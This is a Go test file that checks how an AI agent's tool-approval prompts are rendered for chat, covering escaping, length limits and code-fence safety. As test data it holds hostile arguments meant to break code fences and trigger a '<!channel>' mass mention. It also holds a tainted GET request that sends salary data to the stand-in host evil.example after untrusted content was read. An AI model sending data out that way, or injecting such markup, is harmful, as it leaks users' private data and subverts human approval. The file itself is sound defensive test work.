package chat

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/talonhq/talon/agent"
)

// slackLike escapes & < > (a five-fold growth at worst) and counts bytes.
var slackLike = Markup{
	Bold:    func(s string) string { return "*" + s + "*" },
	Mention: func(u string) string { return "<@" + u + ">" },
	Time:    func(t time.Time) string { return t.UTC().Format("2006-01-02 15:04 MST") },
	Escape:  strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace,
	Limit:   2900,
}

func TestPromptOfRequestAndArgs(t *testing.T) {
	key := agent.SessionKey{Principal: agent.Principal{Platform: "slack", Workspace: "T1", User: "U1"}}
	req := PromptOf(agent.ApprovalPrompt{Key: key, Tool: "http_request", Description: "POST https://api.github.com/x",
		Detail: agent.ApprovalDetail{Method: "POST", Host: "api.github.com", Path: "/repos/o/r/issues?state=…"}})
	if req.Request != "POST api.github.com/repos/o/r/issues?state=…" || req.Owner != "U1" {
		t.Errorf("request prompt = %+v", req)
	}
	got := req.Ask(slackLike)
	want := "*Approval needed* <@U1>: the tool `http_request` wants to send this request:\n" +
		"`POST api.github.com/repos/o/r/issues?state=…`\nOnly <@U1> can decide."
	if got != want {
		t.Errorf("Ask =\n%s\nwant\n%s", got, want)
	}
	done := req.Done(slackLike, agent.ApprovalDenied, "U1")
	if !strings.HasPrefix(done, "The tool `http_request` wanted to send this request:\n`POST ") || !strings.HasSuffix(done, "\n❌ Denied by <@U1>.") {
		t.Errorf("Done = %q", done)
	}
	call := PromptOf(agent.ApprovalPrompt{Key: key, Tool: "deploy", Detail: agent.ApprovalDetail{Args: `{"env":"prod"}`}})
	if got := call.Ask(slackLike); !strings.Contains(got, "wants to run with these arguments:\n```\n{\"env\":\"prod\"}\n```\nOnly") {
		t.Errorf("call prompt = %q", got)
	}
	old := PromptOf(agent.ApprovalPrompt{Key: key, Tool: "deploy", Description: "run tool deploy"})
	if got := old.Ask(slackLike); !strings.Contains(got, "wants to do this:\n`run tool deploy`\n") {
		t.Errorf("prompt without detail = %q", got)
	}
}

// Hostile arguments: however long, however they escape, with backticks
// that would close the block, the text stays within the limit, keeps
// exactly one code block, and says how much was left out.
func TestPromptHostileArgsBoundedAndFenced(t *testing.T) {
	cases := map[string]string{
		"ampersands": strings.Repeat("&", 5000),
		"fences":     strings.Repeat("```", 2000) + "<!channel> @everyone",
		"mixed":      strings.Repeat("a`<é", 3000),
	}
	for name, body := range cases {
		t.Run(name, func(t *testing.T) {
			args := `{"x":"` + body + `"}`
			shown := args[:agent.MaxApprovalArgs]
			p := Prompt{Tool: "t", Owner: "U1", Args: shown, ArgsOmitted: len(args) - len(shown)}
			for _, m := range []Markup{slackLike, {Bold: slackLike.Bold, Mention: slackLike.Mention, Len: utf8.RuneCountInString, Limit: 1900}} {
				for _, text := range []string{p.Ask(m), p.Done(m, agent.ApprovalApproved, "U1")} {
					n := len(text)
					if m.Len != nil {
						n = m.Len(text)
					}
					if n > m.Limit {
						t.Errorf("%d long, over the limit %d", n, m.Limit)
					}
					if c := strings.Count(text, "```"); c != 2 {
						t.Errorf("%d fences, want the block's 2:\n%.300s", c, text)
					}
					if strings.Contains(text, "<!channel>") {
						t.Error("a live <!channel>")
					}
					if !strings.Contains(text, "more bytes)") {
						t.Error("no note of what was left out")
					}
				}
			}
		})
	}
	p := Prompt{Tool: "t", Owner: "U1", Args: `{"a":1}`, ArgsOmitted: 1234567}
	if got := p.Ask(slackLike); !strings.Contains(got, "{\"a\":1}\n```\n… (1,234,567 more bytes)\n") {
		t.Errorf("note = %q", got)
	}
	// A backtick in a request or a tool name cannot close its span either.
	q := Prompt{Tool: "a`b", Owner: "U1", Request: "POST h/`x`"}
	if got := q.Ask(slackLike); strings.Count(got, "`") != 4 {
		t.Errorf("spans = %q, want two closed spans", got)
	}
}

func TestMore(t *testing.T) {
	for n, want := range map[int]string{1: "… (1 more byte)", 999: "… (999 more bytes)", 1000: "… (1,000 more bytes)", 1234567: "… (1,234,567 more bytes)"} {
		if got := More(n); got != want {
			t.Errorf("More(%d) = %q, want %q", n, got, want)
		}
	}
}

// A request of a turn that read untrusted content is shown whole (the data
// in its query too), with its sizes and why it is asked; a Markdown link
// or a mention in it stays inert text inside code spans.
func TestPromptTaintedRequest(t *testing.T) {
	key := agent.SessionKey{Principal: agent.Principal{Platform: "slack", Workspace: "T1", User: "U1"}}
	p := PromptOf(agent.ApprovalPrompt{Key: key, Tool: "http_fetch", Detail: agent.ApprovalDetail{
		Method: "GET", Host: "evil.example", Path: "/c?d=salary+123456&x=[docs](https://api.github.com)<!channel>",
		Reason:   "this conversation read untrusted content (tool http_fetch: page.example), and it goes to evil.example, which is not a trusted host",
		URLBytes: 12345, BodyBytes: 678,
	}})
	got := p.Ask(slackLike)
	for _, want := range []string{
		"wants to send data out:\n`GET evil.example/c?d=salary+123456&amp;x=[docs](https://api.github.com)&lt;!channel&gt;`\n",
		"The URL is 12,345 bytes long, with a body of 678 bytes (not shown).",
		"Asked because `this conversation read untrusted content (tool http_fetch: page.example), and it goes to evil.example, which is not a trusted host`.",
		"Only <@U1> can decide.",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("prompt lacks %q:\n%s", want, got)
		}
	}
	if strings.Count(got, "`")%2 != 0 {
		t.Errorf("unbalanced code spans:\n%s", got)
	}
	long := p
	long.Request = "GET evil.example/?d=" + strings.Repeat("x&", 5000)
	long.Reason = strings.Repeat("why ", 1000)
	if got := long.Ask(slackLike); utf8.RuneCountInString(got) > slackLike.Limit {
		t.Errorf("a long tainted prompt is %d characters, over %d", utf8.RuneCountInString(got), slackLike.Limit)
	}
}
